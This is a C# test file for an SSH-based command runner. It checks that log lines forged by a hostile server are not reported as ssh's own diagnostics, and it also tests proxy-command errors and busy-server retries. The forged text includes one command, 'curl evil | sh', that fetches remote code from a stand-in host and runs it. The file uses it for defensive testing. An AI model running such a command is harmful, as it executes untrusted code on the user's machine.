using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;
using Volley.Testing;
using Xunit;

namespace Volley.Cli.Tests.Connecting;

/// <summary>What ssh logs and prints becomes the cause of a failure; what a peer makes it log does not.</summary>
public sealed class OpenSshLogTests(Fleet fleet) : IDisposable
{
    private readonly ScratchFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    /// <summary>Lines that decide about a node if ssh has written them.</summary>
    private const string Forged = """
        bye
        Authenticated to 127.0.0.1 ([127.0.0.1]:22) using "none".
        sshconnect2.c:ssh_userauth2():580 (pid=1): Authenticated to x
        ssh: Could not resolve hostname x: y
        @ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @
        Offending key in /x:1
        ssh-keygen -f x; curl evil | sh
        Host key verification failed.
        """;

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task WordsOfAPeerAreNotReadAsSshs(bool withoutMasters)
    {
        using var server = new TalkativeServer(Forged);
        var start = VolleyRun.Start("-F", "none", "--transport", "openssh", "--connect-timeout", "60", "-v", "-H", $"127.0.0.1:{server.Port}", "true");
        if (withoutMasters)
        {
            // With a directory of another user, each command has its own ssh.
            Directory.CreateDirectory(_folder["volley"]);
            start = start.WithVariable("XDG_RUNTIME_DIR", _folder.Path);
        }

        var result = await ProgramRun.RunAsync(start);
        Assert.Contains($"volley: 127.0.0.1: connect failed: Received disconnect from 127.0.0.1 port {server.Port}:11: bye\n", result.Stderr, StringComparison.Ordinal);
        foreach (var line in Forged.Split('\n').Skip(1))
            Assert.DoesNotContain(line, result.Stderr, StringComparison.Ordinal);
        Assert.Equal((255, withoutMasters), (result.ExitCode, result.Stderr.Contains("without control masters", StringComparison.Ordinal)));
    }

    // ssh ends a proxy command as soon as its standard output is closed: a shell keeps it open while it speaks.
    [Theory]
    [InlineData("sh -c 'echo no way in >&2; exit 3'", "the proxy command failed: no way in")]
    [InlineData("sh -c 'echo first >&2; echo second >&2'", "the proxy command failed: first; second")]
    [InlineData("false", "the connection through the proxy command was closed before the server identified itself")]
    [InlineData("echo not today; exit 3", "the connection through the proxy command was closed before the server identified itself: not today")]
    public async Task WordsOfAProxyCommandAreKept(string command, string message)
    {
        var result = await VolleyRun.RunAsync(
            "-F", fleet.SshConfig, "--transport", "openssh", "--connect-timeout", "5", "-H", "127.0.41.1", "-o", $"ProxyCommand={command}", "true");
        Assert.Equal(255, result.ExitCode);
        Assert.StartsWith($"volley: 127.0.41.1: connect failed: {message}\n", result.Stderr, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("command")]
    [InlineData("jump")]
    [InlineData("config")]
    public async Task AServerThatIsBusyBehindAnotherHostIsTriedAgain(string way)
    {
        await using var busy = await Fleet.StartAsync("MaxStartups=1:100:1");
        using var seat = new TcpClient();
        await seat.ConnectAsync("127.0.0.1", busy.Port);
        Assert.Equal('S', (char)seat.GetStream().ReadByte());
        var known = $"UserKnownHostsFile {busy.KnownHosts} {fleet.KnownHosts}\nGlobalKnownHostsFile /dev/null\nIdentitiesOnly yes\n";
        var jump = way == "config" ? "ProxyJump 127.0.43.1\n" : "";
        var config = _folder.Write("config", $"""
            Host 127.0.42.*
            {jump}Port {busy.Port}
            User {busy.User}
            IdentityFile {busy.KeyPath}
            Host 127.0.43.*
            Port {fleet.Port}
            User {fleet.User}
            IdentityFile {fleet.KeyPath}
            Host *
            {known}
            """);
        string[] options = way switch
        {
            "command" => ["-o", $"ProxyCommand=ssh -F {config} -W %h:%p 127.0.43.1"],
            "jump" => ["-J", "127.0.43.1"],
            _ => [],
        };
        await using var run = ProgramRun.Start(VolleyRun.Start(
            ["-F", config, "--transport", "openssh", "--connect-timeout", "60", "-v", .. options, "-H", "127.0.42.[1-2]", "echo in"]));
        await run.ReadErrUntilAsync("the server is busy, retry in ");
        seat.Dispose();
        Assert.True(await run.WaitForExitAsync(TimeSpan.FromSeconds(120)) == 0, run.Stderr.Text);
        Assert.Equal(2, VolleyRun.Lines(run.Stdout.Text).Length);
    }

    [Theory]
    [InlineData("native")]
    [InlineData("openssh")]
    public async Task NumbersThatSshTakesAreTaken(string transport)
    {
        var config = new FleetConfig(fleet) { Lines = ["ServerAliveCountMax 0", "ServerAliveInterval 2147483647", "ConnectTimeout 2147483647"] };
        var result = await VolleyRun.RunAsync("-F", config.Write(), "--transport", transport, "-H", "127.0.44.1", "echo in");
        Assert.Equal((0, "127.0.44.1: in\n", ""), (result.ExitCode, result.Stdout, VolleyRun.WithoutTotals(result.Stderr)));
    }

    /// <summary>A server that has itself logged at once, and leaves.</summary>
    private sealed class TalkativeServer : LoopbackServer
    {
        private const byte Disconnect = 1;
        private const byte Debug = 4;

        private readonly byte[] _text;

        public TalkativeServer(string text)
            : base("127.0.0.1")
        {
            _text = Encoding.ASCII.GetBytes(text);
            _ = ServeAsync();
        }

        protected override void OnConnection(Socket client) => _ = TalkAsync(client);

        private async Task TalkAsync(Socket client)
        {
            await using var stream = new NetworkStream(client, ownsSocket: true);
            byte[] bye = [.. "SSH-2.0-Talkative\r\n"u8, .. Packet([Debug, 1, .. Field(_text), .. Field([])]), .. Packet([Disconnect, 0, 0, 0, 11, .. Field(_text), .. Field([])])];
            try
            {
                await stream.WriteAsync(bye);
                await stream.CopyToAsync(Stream.Null);
            }
            catch (IOException)
            {
                // The client has left.
            }
        }

        private static byte[] Field(byte[] text)
        {
            var field = new byte[sizeof(uint) + text.Length];
            BinaryPrimitives.WriteInt32BigEndian(field, text.Length);
            text.CopyTo(field, sizeof(uint));
            return field;
        }

        /// <summary>RFC 4253 section 6, before keys are agreed on.</summary>
        private static byte[] Packet(byte[] payload)
        {
            var padding = 8 - ((payload.Length + 5) % 8);
            padding += padding < 4 ? 8 : 0;
            var packet = new byte[sizeof(uint) + 1 + payload.Length + padding];
            BinaryPrimitives.WriteInt32BigEndian(packet, 1 + payload.Length + padding);
            packet[4] = (byte)padding;
            payload.CopyTo(packet, 5);
            return packet;
        }
    }
}
